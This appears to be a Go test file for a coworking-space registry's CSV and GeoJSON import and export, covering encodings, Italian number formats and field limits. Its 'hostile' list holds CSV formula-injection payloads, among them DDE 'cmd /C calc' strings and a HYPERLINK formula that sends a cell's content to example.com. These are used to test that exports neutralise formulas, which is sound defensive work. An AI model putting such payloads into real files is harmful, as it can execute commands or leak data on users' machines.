package registry

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/paulmach/orb"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"

	"github.com/comune-seregno/coworkbot/registry/hours"
)

// spreadsheetCSV is a list as a clerk types it into a spreadsheet on an
// Italian PC and saves it as CSV: semicolons, CRLF, decimal commas in the
// coordinates and prices, accented letters, a quote in front of "+39" and a
// price in the currency format. euro says whether the text may hold "€"
// (ISO-8859-1 has no euro sign).
func spreadsheetCSV(euro bool) string {
	price := "12,50 €"
	desc := "Perché lavorare da soli? Giornata a 12,50 €, caffè incluso."
	if !euro {
		price, desc = "12,50", "Perché lavorare da soli? Giornata a 12,50 euro, caffè incluso."
	}
	lines := []string{
		"id;name;comune;address;lat;lon;services;desks;opening_hours;price_day_eur;price_half_day_eur;phone;email;website;description_it;description_en;rooms",
		`caffe-citta;Caffè Città;Seregno;Via Umberto I, 12;45,6519;9,2068;"wifi;fiber";12;Mo-Fr 08:30-18:30;` + price + `;7,5;'+39 0362 000101;info@example.org;https://example.org;"` + desc + `";Why work alone?;"volta|Sala Volta|8|20,50"`,
		`perche-no;Perché No;Lissone;Piazza Libertà 1;45,6124;9,2437;cobaby;4;"Mo-Fr 09:00-13:00; Sa 09:00-12:00";10;;0362 000102;;;;;`,
	}
	return strings.Join(lines, "\r\n") + "\r\n"
}

// checkSpreadsheetSpaces checks what spreadsheetCSV should load.
func checkSpreadsheetSpaces(t *testing.T, spaces []Space, euro bool) {
	t.Helper()
	if len(spaces) != 2 {
		t.Fatalf("got %d spaces, want 2", len(spaces))
	}
	a, b := spaces[0], spaces[1]
	wantDesc := "Perché lavorare da soli? Giornata a 12,50 €, caffè incluso."
	if !euro {
		wantDesc = "Perché lavorare da soli? Giornata a 12,50 euro, caffè incluso."
	}
	for _, c := range []struct{ what, got, want string }{
		{"name", a.Name, "Caffè Città"},
		{"address", a.Address, "Via Umberto I, 12"},
		{"phone", a.Phone, "+39 0362 000101"},
		{"description_it", a.Description["it"], wantDesc},
		{"description_en", a.Description["en"], "Why work alone?"},
		{"second name", b.Name, "Perché No"},
		{"second address", b.Address, "Piazza Libertà 1"},
		{"second hours", b.Hours.String(), "Mo-Fr 09:00-13:00; Sa 09:00-12:00; PH off"},
	} {
		if c.got != c.want {
			t.Errorf("%s: got %q, want %q", c.what, c.got, c.want)
		}
	}
	if a.Location.Lat() != 45.6519 || a.Location.Lon() != 9.2068 {
		t.Errorf("got lat %v lon %v, want 45.6519 9.2068", a.Location.Lat(), a.Location.Lon())
	}
	if a.PriceDayCents != 1250 || a.PriceHalfDayCents != 750 || b.PriceDayCents != 1000 {
		t.Errorf("got prices %d, %d and %d cents, want 1250, 750 and 1000", a.PriceDayCents, a.PriceHalfDayCents, b.PriceDayCents)
	}
	if a.Services != SetOf(Wifi, Fiber) || b.Services != SetOf(Cobaby) {
		t.Errorf("got services %v and %v, want wifi+fiber and cobaby", a.Services.List(), b.Services.List())
	}
	if len(a.Rooms) != 1 || a.Rooms[0] != (Room{ID: "volta", Name: "Sala Volta", Seats: 8, PriceHourCents: 2050}) {
		t.Errorf("got rooms %+v, want Sala Volta, 8 seats, 20,50 an hour", a.Rooms)
	}
}

func encode(t *testing.T, cm *charmap.Charmap, s string) []byte {
	t.Helper()
	b, err := cm.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatalf("encoding %q: %v", s, err)
	}
	return b
}

// unicodeText is a ";" CSV saved again as a spreadsheet's "Unicode text":
// tabs between the columns, UTF-16 with a byte order mark.
func unicodeText(t *testing.T, semicolonCSV string, order unicode.Endianness) []byte {
	t.Helper()
	r := csv.NewReader(strings.NewReader(semicolonCSV))
	r.Comma = ';'
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Comma, w.UseCRLF = '\t', true
	if err := w.WriteAll(records); err != nil {
		t.Fatal(err)
	}
	out, err := unicode.UTF16(order, unicode.UseBOM).NewEncoder().Bytes([]byte(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestImportSpreadsheetCSV(t *testing.T) {
	cases := []struct {
		name string
		file func(t *testing.T) []byte
		euro bool
	}{
		{"Windows-1252", func(t *testing.T) []byte { return encode(t, charmap.Windows1252, spreadsheetCSV(true)) }, true},
		{"ISO-8859-1", func(t *testing.T) []byte { return encode(t, charmap.ISO8859_1, spreadsheetCSV(false)) }, false},
		{"UTF-8 with BOM", func(t *testing.T) []byte { return append([]byte("\xef\xbb\xbf"), spreadsheetCSV(true)...) }, true},
		{"UTF-8", func(t *testing.T) []byte { return []byte(spreadsheetCSV(true)) }, true},
		{"Windows-1252 with empty columns", func(t *testing.T) []byte {
			return encode(t, charmap.Windows1252, strings.ReplaceAll(spreadsheetCSV(true), "\r\n", ";;\r\n"))
		}, true},
		{"UTF-16 with tabs", func(t *testing.T) []byte { return unicodeText(t, spreadsheetCSV(true), unicode.LittleEndian) }, true},
		{"UTF-16 big-endian with tabs", func(t *testing.T) []byte { return unicodeText(t, spreadsheetCSV(true), unicode.BigEndian) }, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			file := c.file(t)
			if strings.HasPrefix(c.name, "Windows-1252") && (!bytes.Contains(file, []byte("Caff\xe8 Citt\xe0")) || !bytes.Contains(file, []byte("\x80")) || utf8.Valid(file)) {
				t.Fatal("the test file is not Windows-1252")
			}
			spaces, err := Read(bytes.NewReader(file), CSV)
			if err != nil {
				t.Fatal(err)
			}
			checkSpreadsheetSpaces(t, spaces, c.euro)
			// And into the database, then out again as UTF-8.
			d := mustOpen(t)
			if _, err := d.Import(context.Background(), CommandLine, bytes.NewReader(file), CSV); err != nil {
				t.Fatal(err)
			}
			out := exportString(t, d, CSV)
			if !strings.Contains(out, "Caffè Città") || !utf8.ValidString(out) {
				t.Errorf("export after import: got %q, want UTF-8 with «Caffè Città»", out)
			}
		})
	}
}

// wantProblems checks that err is Problems holding exactly want, comparing
// the fields want sets (Record and Code always).
func wantProblems(t *testing.T, err error, want ...Problem) {
	t.Helper()
	var probs Problems
	if !errors.As(err, &probs) || !errors.Is(err, ErrInvalid) {
		t.Fatalf("got error %v, want Problems", err)
	}
	if len(probs) != len(want) {
		t.Fatalf("got %d problems %v, want %d %v", len(probs), probs, len(want), want)
	}
	for i, w := range want {
		g := probs[i]
		if g.Record != w.Record || g.Code != w.Code || g.Field != w.Field ||
			(w.Line != 0 && g.Line != w.Line) || (w.Value != "" && g.Value != w.Value) || (w.ID != "" && g.ID != w.ID) {
			t.Errorf("problem %d: got %+v, want %+v", i, g, w)
		}
	}
}

func TestImportRefusesTextThatIsNotText(t *testing.T) {
	const header = "id;name;comune;lat;lon;opening_hours;description_it\r\n"
	row := func(id, name, desc string) string {
		return id + ";" + name + ";Seregno;45,65;9,2;Mo-Fr 09:00-18:00;" + desc + "\r\n"
	}
	cp1252 := func(s string) string { return string(encode(t, charmap.Windows1252, s)) }
	cases := []struct {
		name string
		file string
		want []Problem
	}{
		{"a byte undefined in Windows-1252", header + row("uno", cp1252("Caffè"), "") + row("due", "Bar\x81", ""),
			[]Problem{{Record: 2, Line: 3, ID: "due", Field: "name", Code: ProbBadEncoding, Value: "0x81"}}},
		{"each undefined byte", header + row("uno", cp1252("Città"), "x\x8Dy") + row("due", "\x8F", "\x90") + row("tre", "\x9D", ""),
			[]Problem{{Record: 1, Field: "description_it", Code: ProbBadEncoding, Value: "0x8D"},
				{Record: 2, Field: "name", Code: ProbBadEncoding, Value: "0x8F"},
				{Record: 2, Field: "description_it", Code: ProbBadEncoding, Value: "0x90"},
				{Record: 3, Field: "name", Code: ProbBadEncoding, Value: "0x9D"}}},
		{"a control character in Windows-1252", header + row("uno", cp1252("Perché"), "a\x00b"),
			[]Problem{{Record: 1, Line: 2, Field: "description_it", Code: ProbControlChar, Value: "U+0000"}}},
		{"a control character in UTF-8", header + row("uno", "Perché", "a\x1bb"),
			[]Problem{{Record: 1, Field: "description_it", Code: ProbControlChar, Value: "U+001B"}}},
		{"a C1 control in UTF-8, from a Latin-1 conversion of €", header + row("uno", "Perché", "15 \u0080"),
			[]Problem{{Record: 1, Field: "description_it", Code: ProbControlChar, Value: "U+0080"}}},
		{"U+FFFD in a UTF-8 file", header + row("uno", "Perché", "") + row("due", "Caff\uFFFD Bar", ""),
			[]Problem{{Record: 2, Line: 3, ID: "due", Field: "name", Code: ProbReplacementChar, Value: "Caff\uFFFD Bar"}}},
		{"invalid UTF-8 after a BOM", "\xef\xbb\xbf" + header + row("uno", "Perché", "") + row("due", "Bar\x81", ""),
			[]Problem{{Record: 2, Field: "name", Code: ProbBadEncoding, Value: "0x81"}}},
		{"a Windows-1252 cell after a BOM", "\xef\xbb\xbf" + header + row("uno", "Perché", "") + row("due", cp1252("Città"), ""),
			[]Problem{{Record: 2, Field: "name", Code: ProbMixedEncoding, Value: "Città"}}},
		{"a Windows-1252 cell in a UTF-8 file", header + row("uno", "Perché", "Caffè e € ") + row("due", "Città", "Più") + row("tre", cp1252("Caffè"), ""),
			[]Problem{{Record: 3, Line: 4, Field: "name", Code: ProbMixedEncoding, Value: "Caffè"}}},
		{"a UTF-8 cell in a Windows-1252 file", header + row("uno", cp1252("Perché"), cp1252("Caffè e €")) + row("due", cp1252("Città"), "Più"),
			[]Problem{{Record: 2, Line: 3, Field: "description_it", Code: ProbMixedEncoding, Value: "Più"}}},
		{"one cell with both, in a Windows-1252 file", header + row("uno", cp1252("Città"), cp1252("Perché")+" è") + row("due", cp1252("Più"), ""),
			[]Problem{{Record: 1, Field: "description_it", Code: ProbMixedEncoding, Value: "Perché è"}}},
		{"one cell with both, in a UTF-8 file", header + row("uno", "Città", "Più è") + row("due", "Perché", cp1252("Perché")+" è"),
			[]Problem{{Record: 2, Field: "description_it", Code: ProbMixedEncoding, Value: "Perché è"}}},
		{"UTF-16 cut in the middle of a character", string(append([]byte{0xFF, 0xFE}, []byte("i\x00d")...)),
			[]Problem{{Code: ProbUnreadable, Value: "UTF-16 text with an odd number of bytes"}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			d := mustOpen(t)
			_, err := d.Import(context.Background(), CommandLine, strings.NewReader(c.file), CSV)
			wantProblems(t, err, c.want...)
			if all, _ := d.Spaces(context.Background()); len(all) != 0 {
				t.Errorf("got %d spaces stored, want none", len(all))
			}
		})
	}
}

func TestImportGeoJSONIsUTF8(t *testing.T) {
	feature := func(id, name, desc string) string {
		return `{"type":"Feature","geometry":{"type":"Point","coordinates":[9.2,45.65]},"properties":{"id":"` + id +
			`","name":"` + name + `","comune":"Seregno","opening_hours":"Mo-Fr 09:00-18:00","description":{"it":"` + desc + `"}}}`
	}
	collection := func(fs ...string) string {
		return `{"type":"FeatureCollection","features":[` + strings.Join(fs, ",") + `]}`
	}
	cp1252 := func(s string) string { return string(encode(t, charmap.Windows1252, s)) }
	cases := []struct {
		name string
		file string
		want []Problem
	}{
		{"Windows-1252 text", collection(feature("uno", "Perché", ""), feature("due", cp1252("Città"), "")),
			[]Problem{{Record: 2, ID: "due", Field: "name", Code: ProbNotUTF8, Value: "0xE0"}}},
		{"Windows-1252 in a description", collection(feature("uno", "Perché", cp1252("Caffè"))),
			[]Problem{{Record: 1, Field: "description", Code: ProbNotUTF8, Value: "0xE8"}}},
		{"Windows-1252 outside the properties", strings.Replace(collection(feature("uno", "Perché", "")), `"FeatureCollection",`, `"FeatureCollection","name":"`+cp1252("Città")+`",`, 1),
			[]Problem{{Code: ProbNotUTF8, Value: "0xE0"}}},
		{"U+FFFD", collection(feature("uno", "Caff\uFFFD", "")), []Problem{{Record: 1, Field: "name", Code: ProbReplacementChar}}},
		{"U+FFFD escaped", collection(feature("uno", "Perché", `Caff\ufffd`)), []Problem{{Record: 1, Field: "description_it", Code: ProbReplacementChar}}},
		{"a lone surrogate", collection(feature("uno", `Caff\ud800`, "")), []Problem{{Record: 1, Field: "name", Code: ProbReplacementChar}}},
		{"a control character", collection(feature("uno", `Bar\u0007`, "")), []Problem{{Record: 1, Field: "name", Code: ProbControlChar, Value: "U+0007"}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := Read(strings.NewReader(c.file), GeoJSON)
			wantProblems(t, err, c.want...)
		})
	}
	// A byte order mark is ignored (RFC 8259 allows it).
	spaces, err := Read(strings.NewReader("\xef\xbb\xbf"+collection(feature("uno", "Perché", "Caffè"))), GeoJSON)
	if err != nil || len(spaces) != 1 || spaces[0].Name != "Perché" {
		t.Errorf("with a BOM: got %v, %v; want Perché read", spaces, err)
	}
}

func TestImportNumbersAsSpreadsheetsWriteThem(t *testing.T) {
	const header = "id;name;comune;lat;lon;opening_hours;price_day_eur;rooms\r\n"
	file := func(lat, lon, price, rooms string) string {
		return header + "uno;Uno;Seregno;" + lat + ";" + lon + ";Mo-Fr 09:00-18:00;" + price + ";" + rooms + "\r\n"
	}
	good := []struct {
		lat, lon, price string
		wantLat         float64
		wantCents       int
	}{
		{"45,6519", "9,2068", "12,50", 45.6519, 1250},
		{"45.6519", "9.2068", "12.5", 45.6519, 1250},
		{"45,651", "9,2", "15", 45.651, 1500},
		{"45", "9", "€ 12,50", 45, 1250},
		{"45,6519", "9,2068", "7,5\u00a0€", 45.6519, 750},
	}
	for _, g := range good {
		spaces, err := Read(strings.NewReader(file(g.lat, g.lon, g.price, "")), CSV)
		if err != nil {
			t.Errorf("lat %s, price %s: %v", g.lat, g.price, err)
			continue
		}
		if s := spaces[0]; s.Location.Lat() != g.wantLat || s.PriceDayCents != g.wantCents {
			t.Errorf("lat %s, price %s: got %v and %d cents, want %v and %d", g.lat, g.price, s.Location.Lat(), s.PriceDayCents, g.wantLat, g.wantCents)
		}
	}
	bad := []struct {
		name                   string
		lat, lon, price, rooms string
		want                   Problem
	}{
		{"thousands in a latitude", "1.234,5", "9,2", "", "", Problem{Record: 1, Field: "coordinates", Code: ProbThousands, Value: "1.234,5"}},
		{"thousands in a longitude", "45,6", "9.206,8", "", "", Problem{Record: 1, Field: "coordinates", Code: ProbThousands, Value: "9.206,8"}},
		{"English thousands", "1,234.5", "9,2", "", "", Problem{Record: 1, Field: "coordinates", Code: ProbThousands, Value: "1,234.5"}},
		{"two decimal commas", "45,65,19", "9,2", "", "", Problem{Record: 1, Field: "coordinates", Code: ProbBadCoords}},
		{"thousands in a price", "45,6", "9,2", "1.500", "", Problem{Record: 1, Field: "price_day_eur", Code: ProbThousands, Value: "1.500"}},
		{"a price with both separators", "45,6", "9,2", "1.250,00", "", Problem{Record: 1, Field: "price_day_eur", Code: ProbThousands}},
		{"a price in words", "45,6", "9,2", "dieci", "", Problem{Record: 1, Field: "price_day_eur", Code: ProbNotNumber}},
		{"an infinite price", "45,6", "9,2", "Inf", "", Problem{Record: 1, Field: "price_day_eur", Code: ProbNotNumber}},
		{"thousands in a room's price", "45,6", "9,2", "", "volta|Sala Volta|8|1.200", Problem{Record: 1, Field: "rooms", Code: ProbBadRoom}},
	}
	for _, b := range bad {
		t.Run(b.name, func(t *testing.T) {
			_, err := Read(strings.NewReader(file(b.lat, b.lon, b.price, b.rooms)), CSV)
			wantProblems(t, err, b.want)
		})
	}
}

var seregno = orb.Point{9.2046, 45.6503}

// hostile are cells a spreadsheet would run as formulas (OWASP's CSV
// Injection page), and cells that only look like neutralised ones.
var hostile = []string{
	`=HYPERLINK("http://example.com/?x="&A1;"clic")`,
	`+39 0362 000101`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+2",
	"\r=1+2",
	"＝1+2",
	`'=1+2`, // a quote already in front: it must come back as it was
	`''+1`,
	`'Nduja`, // a quote not in front of a formula stays
	`=1+2";=1+2`,
	`=1+2'" ;,=1+2`,
}

func TestCSVExportIsSafeInASpreadsheetAndRoundTrips(t *testing.T) {
	var spaces []Space
	for i, h := range hostile {
		phone := string([]rune(h)[:min(len([]rune(h)), MaxPhone)])
		spaces = append(spaces, Space{ID: fmt.Sprintf("ostile-%02d", i), Name: h, Comune: h, Address: h, Phone: phone,
			Email: "x@example.org", Location: seregno, Hours: mustHours(t, "Mo-Fr 09:00-18:00"),
			Description: map[string]string{"it": h, "en": h, "de": h},
			// The rooms cell separates rooms with ";" and their parts with
			// "|", trimmed: a room's name cannot hold them, nor start with
			// a space. The cell starts with the room's id, never a formula.
			Rooms: []Room{{ID: "sala", Name: strings.TrimSpace(strings.NewReplacer(";", ",", "|", "/").Replace(h)), Seats: 4}}})
	}
	// An email may start with a formula character too.
	spaces[0].Email, spaces[1].Email, spaces[2].Email = "=cmd@example.org", "+info@example.org", "-x@example.org"
	d := mustOpen(t)
	ctx := context.Background()
	if _, err := d.PutSpaces(ctx, CommandLine, spaces, PutOptions{}); err != nil {
		t.Fatal(err)
	}
	first := exportString(t, d, CSV)
	rows, err := csv.NewReader(strings.NewReader(first)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if r, _ := utf8.DecodeRuneInString(cell); formulaStart(r) {
				t.Errorf("%s, column %s: got %q, a formula for a spreadsheet", row[0], rows[0][i], cell)
			}
		}
	}
	if !strings.Contains(first, `'+39 0362 000101`) {
		t.Errorf("got no neutralised phone in\n%s", first)
	}
	d2 := mustOpen(t)
	if _, err := d2.Import(ctx, CommandLine, strings.NewReader(first), CSV); err != nil {
		t.Fatal(err)
	}
	for i, want := range spaces {
		got, err := d2.Space(ctx, want.ID)
		if err != nil {
			t.Fatal(err)
		}
		if !sameContent(&got, &want) {
			t.Errorf("cell %q: got back %+v, want %+v", hostile[i], got, want)
		}
	}
	if second := exportString(t, d2, CSV); second != first {
		t.Errorf("second export differs from first:\n%s\n---\n%s", second, first)
	}
}

func TestCSVImportRemovesOnlyTheNeutralisingQuote(t *testing.T) {
	const header = "id;name;comune;lat;lon;opening_hours;phone;address\r\n"
	for _, c := range []struct{ cell, want string }{
		{"'+39 0362 000101", "+39 0362 000101"},
		{"'-1", "-1"},
		{"''=x", "'=x"},
		{"'Nduja Bar", "'Nduja Bar"},
		{"+39 0362 000101", "+39 0362 000101"},
		{"Bar 'Nduja", "Bar 'Nduja"},
	} {
		file := header + "uno;" + c.cell + ";Seregno;45,65;9,2;Mo-Fr 09:00-18:00;" + c.cell + ";" + c.cell + "\r\n"
		spaces, err := Read(strings.NewReader(file), CSV)
		if err != nil {
			t.Fatalf("%q: %v", c.cell, err)
		}
		if s := spaces[0]; s.Name != c.want || s.Phone != c.want || s.Address != c.want {
			t.Errorf("%q: got %q, %q, %q; want %q", c.cell, s.Name, s.Phone, s.Address, c.want)
		}
	}
}

func mustHours(t *testing.T, expr string) hours.Schedule {
	t.Helper()
	h, err := hours.Parse(expr)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// A space at every limit, valid.
func atLimits(t *testing.T) Space {
	t.Helper()
	var rooms []Room
	for i := range MaxRooms {
		id := fmt.Sprintf("s%d-", i) + strings.Repeat("a", MaxRoomID)
		rooms = append(rooms, Room{ID: id[:MaxRoomID], Name: strings.Repeat("è", MaxRoomName), Seats: 4})
	}
	return Space{ID: strings.Repeat("a", MaxID), Name: strings.Repeat("à", MaxName), Comune: strings.Repeat("ò", MaxComune),
		Address: strings.Repeat("ù", MaxAddress), Phone: strings.Repeat("1", MaxPhone),
		Email: strings.Repeat("a", MaxEmail-len("@example.org")) + "@example.org", Website: "https://" + strings.Repeat("w", MaxWebsite-len("https://")),
		Location: seregno, Hours: mustHours(t, "Mo-Fr 09:00-18:00"),
		Description: map[string]string{"it": strings.Repeat("é", MaxDescription), "en": strings.Repeat("e", MaxDescription)},
		Rooms:       rooms}
}

func TestLimits(t *testing.T) {
	if s := atLimits(t); len(s.Validate()) != 0 {
		ps := s.Validate()
		t.Fatalf("a space at every limit: got %v, want no problem", ps)
	}
	// Seven days, each with its own five spans: too long for OpenStreetMap.
	longHours := ""
	for i, day := range []string{"Mo", "Tu", "We", "Th", "Fr", "Sa", "Su"} {
		longHours += fmt.Sprintf("%s 0%d:00-0%d:30,10:%d0-11:00,12:%d0-13:00,14:%d0-15:00,16:%d0-17:00; ", day, i+1, i+1, i%6, i%6, i%6, i%6)
	}
	longHours = strings.TrimSuffix(longHours, "; ")
	cases := []struct {
		field, code string
		limit       int
		edit        func(s *Space)
	}{
		{"id", ProbBadID, MaxID, func(s *Space) { s.ID += "a" }},
		{"name", ProbTooLong, MaxName, func(s *Space) { s.Name += "x" }},
		{"comune", ProbTooLong, MaxComune, func(s *Space) { s.Comune += "x" }},
		{"address", ProbTooLong, MaxAddress, func(s *Space) { s.Address += "x" }},
		{"phone", ProbTooLong, MaxPhone, func(s *Space) { s.Phone += "1" }},
		{"email", ProbTooLong, MaxEmail, func(s *Space) { s.Email = "a" + s.Email }},
		{"website", ProbTooLong, MaxWebsite, func(s *Space) { s.Website += "w" }},
		{"description_it", ProbTooLong, MaxDescription, func(s *Space) { s.Description["it"] += "é" }},
		{"description_en", ProbTooLong, MaxDescription, func(s *Space) { s.Description["en"] += "e" }},
		{"opening_hours", ProbTooLong, MaxHours, func(s *Space) { s.Hours = mustHours(t, longHours) }},
		{"rooms", ProbTooMany, MaxRooms, func(s *Space) { s.Rooms = append(s.Rooms, Room{ID: "altra", Name: "Altra", Seats: 2}) }},
		{"rooms", ProbTooLong, MaxRoomID, func(s *Space) { s.Rooms[3].ID += "a" }},
		{"rooms", ProbTooLong, MaxRoomName, func(s *Space) { s.Rooms[5].Name += "x" }},
	}
	d := mustOpen(t)
	ctx := context.Background()
	if err := d.CreateSpace(ctx, CommandLine, atLimits(t), Approved); err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		t.Run(c.field+" "+strconv.Itoa(c.limit), func(t *testing.T) {
			s := atLimits(t)
			c.edit(&s)
			want := Problem{Field: c.field, Code: c.code, Value: strconv.Itoa(c.limit)}
			if c.code == ProbBadID {
				want.Value = s.ID
			}
			if ps := s.Validate(); len(ps) != 1 || ps[0].Field != want.Field || ps[0].Code != want.Code || ps[0].Value != want.Value {
				t.Fatalf("got %v, want %+v", ps, want)
			}
			// A provider's edit is held to the same limits.
			if c.field == "id" {
				return
			}
			_, err := d.EditSpace(ctx, CommandLine, atLimits(t).ID, func(old *Space) error { c.edit(old); return nil })
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("an over-long edit: got %v, want it refused", err)
			}
		})
	}
}

func TestImportRefusesOverLongFields(t *testing.T) {
	doc := exportString(t, mustDemo(t), CSV)
	long := strings.Repeat("Lorem ipsum dolor sit amet. ", 60) // 1,680 characters
	services := strings.TrimSuffix(strings.Repeat("wifi;", MaxServices+1), ";")
	cases := []struct {
		name, col, value string
		want             Problem
	}{
		{"description", "description_it", long, Problem{Record: 10, Line: 11, Field: "description_it", Code: ProbTooLong, Value: "1500"}},
		{"name", "name", strings.Repeat("Officina ", 10), Problem{Record: 10, Line: 11, Field: "name", Code: ProbTooLong, Value: "80"}},
		{"phone", "phone", strings.Repeat("0362 000101 ", 4), Problem{Record: 10, Field: "phone", Code: ProbTooLong, Value: "40"}},
		{"services", "services", services, Problem{Record: 10, Field: "services", Code: ProbTooMany, Value: strconv.Itoa(MaxServices)}},
		{"room name", "rooms", "volta|" + strings.Repeat("Sala ", 13) + "|8|20", Problem{Record: 10, Field: "rooms", Code: ProbTooLong, Value: "60"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := Read(strings.NewReader(editCSV(t, doc, "officina-brianza", c.col, c.value)), CSV)
			w := c.want
			w.ID = "officina-brianza"
			wantProblems(t, err, w)
		})
	}
	// The same in GeoJSON, with the feature.
	geo := editGeoJSON(t, exportString(t, mustDemo(t), GeoJSON), "desio-works", func(_, p map[string]any) {
		p["description"] = map[string]any{"it": long}
	})
	_, err := Read(strings.NewReader(geo), GeoJSON)
	wantProblems(t, err, Problem{Record: 5, ID: "desio-works", Field: "description_it", Code: ProbTooLong, Value: "1500"})
}

// countingReader yields n bytes of a CSV-looking text and counts how many
// were read.
type countingReader struct{ left, read int }

func (r *countingReader) Read(p []byte) (int, error) {
	if r.left == 0 {
		return 0, io.EOF
	}
	n := min(len(p), r.left)
	for i := range n {
		p[i] = "id;name\r\n"[(r.read+i)%9]
	}
	r.left -= n
	r.read += n
	return n, nil
}

func TestImportRefusesAFileOverTheLimit(t *testing.T) {
	for _, f := range []Format{CSV, GeoJSON} {
		r := &countingReader{left: 1 << 30} // a gigabyte
		_, err := Read(r, f)
		wantProblems(t, err, Problem{Code: ProbFileTooLarge, Value: "10"})
		if r.read > MaxFileBytes+1 {
			t.Errorf("%s: read %d bytes, want no more than the limit and one", f, r.read)
		}
	}
	// A file of exactly the limit is read.
	r := &countingReader{left: MaxFileBytes}
	_, err := Read(r, CSV)
	var probs Problems
	if errors.As(err, &probs) && probs[0].Code == ProbFileTooLarge {
		t.Errorf("a file of exactly %d bytes: got %v, want it read", MaxFileBytes, probs[0])
	}
}

func TestImportRefusesTooManyRecords(t *testing.T) {
	var b strings.Builder
	b.WriteString("id,name,comune,lat,lon,opening_hours\n")
	for i := range MaxRecords + 1 {
		fmt.Fprintf(&b, "s%d,Spazio %d,Seregno,45.65,9.2,Mo-Fr 09:00-18:00\n", i, i)
	}
	_, err := Read(strings.NewReader(b.String()), CSV)
	wantProblems(t, err, Problem{Record: MaxRecords + 1, Line: MaxRecords + 2, Code: ProbTooManyRecords, Value: strconv.Itoa(MaxRecords)})

	spaces, err := Read(strings.NewReader(strings.TrimSuffix(b.String(), fmt.Sprintf("s%d,Spazio %d,Seregno,45.65,9.2,Mo-Fr 09:00-18:00\n", MaxRecords, MaxRecords))), CSV)
	if err != nil || len(spaces) != MaxRecords {
		t.Errorf("%d records: got %d spaces, %v; want all read", MaxRecords, len(spaces), err)
	}

	feature := `{"type":"Feature","geometry":{"type":"Point","coordinates":[9.2,45.65]},"properties":{"id":"x","name":"x","comune":"Seregno","opening_hours":"24/7"}}`
	geo := `{"type":"FeatureCollection","features":[` + strings.TrimSuffix(strings.Repeat(feature+",", MaxRecords+1), ",") + `]}`
	_, err = Read(strings.NewReader(geo), GeoJSON)
	wantProblems(t, err, Problem{Record: MaxRecords + 1, Code: ProbTooManyRecords, Value: strconv.Itoa(MaxRecords)})
}
